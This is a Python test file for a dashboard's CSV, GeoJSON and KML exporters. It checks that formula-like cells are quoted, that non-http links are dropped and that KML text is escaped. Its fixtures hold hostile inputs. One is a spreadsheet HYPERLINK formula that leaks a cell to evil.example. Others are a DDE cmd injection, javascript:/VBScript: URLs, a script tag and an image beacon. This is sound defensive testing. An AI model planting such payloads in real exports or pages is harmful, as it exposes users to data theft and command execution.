"""Exports carry no live content: formula-safe CSV (with an opt-out for round trips), only
http(s) links, KML descriptions as text, valid XML whatever the stored text holds."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import pandas as pd
import pytest

from dashboard.__main__ import main
from dashboard.formats import read_incidents, read_table
from dashboard.formats.writers import KML_NS, render
from dashboard.store import Store
from dashboard.synthetic import synthetic_incidents

HOSTILE_TEXT = {
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor1": "+1 (555) 0100",
    "actor2": "-2+3",
    "source": "\tleading tab",
    "admin1": "\rcarriage return",
}


def hostile(**extra) -> pd.DataFrame:
    incidents = synthetic_incidents(3, seed=4)
    incidents["longitude"] = [-43.25, 44.1, -0.5]  # negative numbers must stay numbers
    for column, text in {**HOSTILE_TEXT, **extra}.items():
        incidents[column] = pd.array([text] * 3, dtype="string")
    return incidents


def test_csv_quotes_every_formula_looking_text_cell_and_no_number(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text(render(hostile(), "csv"), encoding="utf-8")
    frame, _ = read_table(path)
    for column, text in HOSTILE_TEXT.items():
        assert frame[column].iloc[0] == "'" + text, column
    assert frame["longitude"].tolist() == ["-43.25", "44.1", "-0.5"]


def test_the_opt_out_writes_text_as_stored_and_reimports_as_native(tmp_path, capsys):
    incidents = hostile(source_url="https://example.org/a")
    db = f"sqlite:///{tmp_path / 'store.db'}"
    store = Store(db, seed_csv=None)
    store.import_incidents(incidents, name="hostile")
    out = tmp_path / "round.csv"
    assert main(["export", "--db", db, "--no-formula-escape", "-o", str(out)]) == 0
    again = read_incidents(out)
    again = again[again["dataset"] == "synthetic"]  # the store also holds the curated set
    for column, text in HOSTILE_TEXT.items():  # as stored (the validator trims spaces)
        assert (again[column] == text.strip()).all(), column
    # Exports are ordered by day and id; numbers (negative ones included) come back as numbers.
    by_id = again.set_index("incident_id")["longitude"]
    assert by_id[list(incidents["incident_id"])].tolist() == [-43.25, 44.1, -0.5]
    escaped = tmp_path / "escaped.csv"
    assert main(["export", "--db", db, "-o", str(escaped)]) == 0
    frame, _ = read_table(escaped)
    frame = frame[frame["dataset"] == "synthetic"]
    assert (frame["notes"] == "'" + HOSTILE_TEXT["notes"]).all()


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>", "VBScript:MsgBox(1)"],
)
@pytest.mark.parametrize("format", ["csv", "geojson", "kml"])
def test_links_other_than_http_are_left_out_of_every_format(url, format):
    incidents = synthetic_incidents(2, seed=2)
    incidents["source_url"] = pd.array([url, "https://example.org/ok"], dtype="string")
    text = render(incidents, format)
    assert url.split(":")[1] not in text
    assert "https://example.org/ok" in text


def test_kml_is_valid_xml_and_its_description_is_text_whatever_the_input():
    incidents = synthetic_incidents(2, seed=3)
    incidents["notes"] = pd.array(
        ["<b>bold</b> <img src=http://beacon.example/x.png> \x07bell\x00 \u202eevil", "plain"],
        dtype="string",
    )
    incidents["location"] = pd.array(["a\x0bb", "<script>alert(1)</script>"], dtype="string")
    root = ET.fromstring(render(incidents, "kml"))  # raises on invalid XML
    ns = {"k": KML_NS}
    placemark = root.findall(".//k:Placemark", ns)[0]
    description = placemark.find("k:description", ns).text
    # Once XML is parsed, the description is still escaped HTML: shown as text, not markup.
    assert "&lt;b&gt;bold&lt;/b&gt;" in description and "<b>" not in description
    assert "&lt;img" in description
    assert "\x07" not in description and "\x00" not in description and "\u202e" not in description
    balloon = root.find(".//k:Style/k:BalloonStyle/k:text", ns).text
    assert balloon == "$[description]"
    assert placemark.find("k:styleUrl", ns).text == "#incident"


def test_geojson_keeps_text_but_drops_control_characters():
    incidents = synthetic_incidents(1, seed=3)
    incidents["notes"] = pd.array(["a\x07b <i>c</i>"], dtype="string")
    properties = json.loads(render(incidents, "geojson"))["features"][0]["properties"]
    assert properties["notes"] == "ab <i>c</i>"
